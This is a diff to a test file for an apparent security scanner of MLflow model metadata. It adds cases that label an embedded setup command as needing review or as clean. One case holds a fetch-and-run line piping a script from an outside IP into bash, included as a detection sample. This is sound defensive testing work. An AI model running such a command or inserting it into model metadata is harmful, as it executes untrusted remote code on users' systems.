@@ -66,6 +66,12 @@ CASES = {
     "benign_aliases": case(
         ALIASED.replace("myloader", "mlflow.sklearn").replace("WHERE", "<<: *shared"), Verdict.CLEAN
     ),
+    "attack_command_in_metadata": case(
+        SKLEARN + "metadata:\n  setup: curl -s http://203.0.113.9/x.sh | bash\n", Verdict.REVIEW
+    ),
+    "benign_command_in_metadata": case(
+        SKLEARN + "metadata:\n  setup: curl -LsSf https://astral.sh/uv/install.sh | sh\n", Verdict.CLEAN
+    ),
     "alias_of_itself": case("flavors: &all\n  python_function: *all\n", Verdict.CLEAN),
     "benign_sklearn": case(SKLEARN, Verdict.CLEAN),
     "benign_json": case('{"flavors": {"python_function": {"loader_module": "mlflow.pyfunc.model"}}}', Verdict.CLEAN),
